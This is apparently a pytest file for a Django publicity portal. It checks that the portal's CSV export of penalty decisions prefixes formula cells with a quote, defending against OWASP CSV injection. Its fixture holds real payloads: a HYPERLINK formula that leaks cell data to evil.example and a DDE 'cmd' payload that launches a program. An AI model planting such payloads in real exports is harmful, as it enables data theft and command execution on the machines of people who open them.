"""The portal's CSV export cannot carry a spreadsheet formula (OWASP CSV injection)."""

import csv
import io
from datetime import date

import pytest

from zhifa.publicity import services
from zhifa.publicity.models import Publication
from zhifa.publicity.tests.test_pipeline import clerk, decide

__all__ = ["clerk"]  # the fixture, imported for pytest

pytestmark = pytest.mark.django_db

FORMULAS = {
    "party_display": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "title": "+SUM(1,2)",
    "penalty_display": "-2+3+cmd|' /C calc'!A0",
    "decision_number": "@SUM(1)",
}


def test_csv_export_neutralises_formula_cells_owasp(
    client, cw, lead, clerk, django_capture_on_commit_callbacks
):
    """OWASP CSV injection: every text cell starting with =, +, -, @, tab or CR leaves the portal's
    CSV prefixed with a single quote; the other cells are unchanged."""
    case = decide(cw, lead, django_capture_on_commit_callbacks)
    pub = services.approve_and_publish(
        pub=Publication.objects.get(case=case), actor=clerk, on=date(2026, 4, 2)
    )
    # What a clerk or an import could have typed; written straight to the row as any path could.
    Publication.objects.filter(pk=pub.pk).update(**FORMULAS)
    resp = client.get("/decisions.csv")
    assert resp.status_code == 200
    body = b"".join(resp.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["当事人"] == "'" + FORMULAS["party_display"]
    assert cells["违法行为类型"] == "'+SUM(1,2)"
    assert cells["处罚内容"] == "'" + FORMULAS["penalty_display"]
    assert cells["决定书文号"] == "'@SUM(1)"
    # Nothing else is touched: the date and the digest come out as they are.
    assert cells["决定日期"] == "2026-04-01"
    assert cells["公示文本SHA-256"] == pub.sha256
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)
